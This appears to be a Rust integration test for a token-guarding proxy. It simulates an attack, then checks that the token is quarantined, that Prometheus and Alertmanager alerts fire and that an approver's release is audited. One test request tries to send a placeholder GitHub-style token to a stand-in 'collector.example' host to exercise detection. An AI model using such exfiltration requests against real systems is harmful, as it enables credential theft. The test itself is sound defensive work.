//! An attack, from its first request to what those see who watch: the token is quarantined, Alertmanager has the proxy's own alert
//! and the one that Prometheus makes of the scrape, and an approver ends it.

use std::time::Duration;

use serde_json::Value;
use tokio::time::Instant;

use crate::support::caddy::Caddy;
use crate::support::http::{self, Answer};
use crate::support::issuer::Issuer;
use crate::support::operators::{as_approver, operators};
use crate::support::prometheus::{Alertmanager, Prometheus};
use crate::support::proxy::{Proxy, ROUTE, Settings};
use crate::support::{in_turn, wait_until};

/// What stands in for a key in the app.
const PHANTOM: &str = "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";

const SOON: Duration = Duration::from_secs(60);

#[test]
fn an_attack_ends_as_a_quarantined_token_and_alerts_that_fire_until_somebody_lets_it_in() {
    in_turn(async {
        let (issuer, caddy) = (Issuer::start().await, Caddy::start().await);
        let alertmanager = Alertmanager::start().await;
        let folder = tempfile::tempdir().expect("a folder");
        let key = folder.path().join("app.key");
        std::fs::write(&key, PHANTOM).expect("written");
        let sections = format!(
            "{}\n[[client]]\nname = \"app\"\nuid = {}\nkey = \"file:{}\"\n\
             [detect]\nmode = \"respond\"\nrespond = {{ tripwire = \"quarantine\" }}\n\
             [[alert]]\nkind = \"alertmanager\"\nurl = \"http://{}\"",
            operators(),
            rustix::process::getuid().as_raw(),
            key.display(),
            alertmanager.address,
        );
        let usual = Settings::between(&issuer, caddy.address, &caddy.certificates);
        let proxy = Proxy::start(&Settings { proxy_lines: sections, ..usual }).await;
        let prometheus = Prometheus::start(proxy.telemetry, &alertmanager).await;
        assert_eq!(get(&proxy, "/before").await.status, 200);
        wait_until("Prometheus has seen the proxy", SOON, async || {
            let seen = prometheus.query("countersign_token_info").await.expect("a query");
            (!seen.is_empty()).then_some(())
        })
        .await;

        let began = Instant::now();
        let stolen = format!("/stolen?to=https://collector.example/%3Fkey={PHANTOM}");
        assert_eq!(get(&proxy, &stolen).await.reason().as_deref(), Some("client_unknown"));
        wait_until("the token is quarantined", Duration::from_secs(1), async || {
            let reason = get(&proxy, "/after").await.reason();
            (reason.as_deref() == Some("token_quarantined")).then_some(())
        })
        .await;
        println!("quarantined {:?} after the first request of the attack", began.elapsed());
        assert!(caddy.trail().tokens("/stolen").is_empty(), "nothing of it has reached the upstream");

        for (of_prometheus, severity) in [(false, "critical"), (true, "warning")] {
            let fires = wait_until("the alert fires", SOON, async || firing(&alertmanager, of_prometheus).await).await;
            assert_eq!((&fires["labels"]["token"], &fires["labels"]["severity"]), (&ROUTE.into(), &severity.into()));
        }
        let quarantined = format!("countersign_token_state{{token=\"{ROUTE}\",state=\"quarantined\"}} == 1");
        wait_until("Prometheus sees the quarantine", SOON, async || {
            (!prometheus.query(&quarantined).await.expect("a query").is_empty()).then_some(())
        })
        .await;

        let approver = as_approver(&proxy);
        let approver: Vec<&str> = approver.iter().map(String::as_str).collect();
        let (code, said) = proxy.run(&[&["tokens", "release", ROUTE], &approver[..]].concat());
        assert_eq!(code, Some(0), "{said}");
        wait_until("the proxy's own alert is over", SOON, async || {
            firing(&alertmanager, false).await.is_none().then_some(())
        })
        .await;
        wait_until("requests pass again", SOON, async || (get(&proxy, "/again").await.status == 200).then_some(()))
            .await;
        let (code, shown) = proxy.run(&["audit", "show"]);
        assert_eq!(code, Some(0), "{shown}");
        let events = ["anomaly", "token_quarantined", "token_released"];
        let at = events.map(|event| shown.find(&format!(" {event} ")).unwrap_or_else(|| panic!("{event}: {shown}")));
        assert!(at.is_sorted(), "{shown}");
    });
}

/// As the app sends it.
async fn get(proxy: &Proxy, path: &str) -> Answer {
    let bearer = format!("Bearer {PHANTOM}");
    http::get_with(proxy.address, &format!("/{ROUTE}{path}"), &[("authorization", &bearer)]).await.expect("an answer")
}

/// The anomaly as the proxy tells it, or as Prometheus does: that one says whose scrape it is of.
async fn firing(alertmanager: &Alertmanager, of_prometheus: bool) -> Option<Value> {
    let alerts = alertmanager.alerts("CountersignAnomaly").await;
    alerts.into_iter().find(|alert| alert["labels"]["job"].is_string() == of_prometheus)
}
